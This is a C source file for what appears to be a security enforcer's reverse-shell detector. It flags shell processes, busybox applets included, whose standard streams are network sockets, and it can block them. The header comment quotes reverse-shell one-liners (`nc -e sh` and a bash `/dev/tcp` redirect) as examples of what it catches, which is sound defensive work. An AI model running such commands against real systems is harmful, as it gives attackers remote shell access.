/* Reverse-shell control: at the exec stop (binding: no instruction of the new image has run), a
 * shell or interpreter (a shell-name pattern matching the basename of the executed file or of
 * argv[0], or of argv[1] after "busybox": how busybox applets are named) whose stdin, stdout or stderr is an IPv4 or
 * IPv6 socket is a reverse (or bind) shell. This covers `nc -e sh` (nc executes the shell with
 * the socket as its stdio) and `bash -c 'sh -i >& /dev/tcp/H/P 0>&1'` (the redirect is made
 * before the shell is executed); docs/enforcer.md lists what it does not cover. */
#include "rtctl.h"

#include <limits.h>
#include <stdio.h>
#include <string.h>

#include "events.h"
#include "json.h"
#include "match.h"
#include "procfs.h"

static bool is_shell(const char *name)
{
	if (!name || !name[0])
		return false;
	const char *base = path_basename(name);
	const struct bundle_runtime *rt = &rt_bundle->rt;
	for (size_t i = 0; i < rt->n_shells; i++)
		if (match_glob(rt->shells[i], base))
			return true;
	return false;
}

bool revshell_exec(pid_t pid, const char *exe_path)
{
	static char argbuf[1024];
	const char *argv[2];
	size_t argc = 0;
	int truncated = 0;
	bool shell = is_shell(exe_path);
	if (!shell && procfs_read_cmdline(pid, argbuf, sizeof argbuf, argv, 2, &argc, &truncated) == 0 && argc > 0) {
		/* busybox runs the applet named by argv[0], or by argv[1] when argv[0] is "busybox" */
		shell = is_shell(argv[0]) ||
			(argc > 1 && strcmp(path_basename(argv[0]), "busybox") == 0 && is_shell(argv[1]));
	}
	if (!shell)
		return false;
	for (int fd = 0; fd <= 2; fd++) {
		uint64_t ino = sockinfo_fd_inode(pid, fd);
		uint8_t a[16];
		uint16_t port;
		if (ino == 0 || sockinfo_peer(pid, ino, a, &port) != 1)
			continue;
		enum inlay_mode m = rt_mode(CTL_REVSHELL);
		bool deny = m == INLAY_ENFORCE;
		char peer[80], reason[256], detail[256];
		rt_format_peer(a, port, peer, sizeof peer);
		snprintf(reason, sizeof reason,
			 "a shell or interpreter was started with its %s connected to the network (%s)",
			 fd == 0 ? "stdin" : fd == 1 ? "stdout" : "stderr", peer);
		struct json j;
		json_init(&j, detail, sizeof detail);
		json_begin_object(&j);
		json_key(&j, "fd");
		json_int(&j, fd);
		json_key(&j, "peer");
		json_str(&j, peer);
		json_end_object(&j);
		rt_emit(pid, "process.reverse-shell", "critical", m, deny, "reverse-shell.stdio", reason,
			j.overflow ? NULL : detail);
		return deny;
	}
	return false;
}
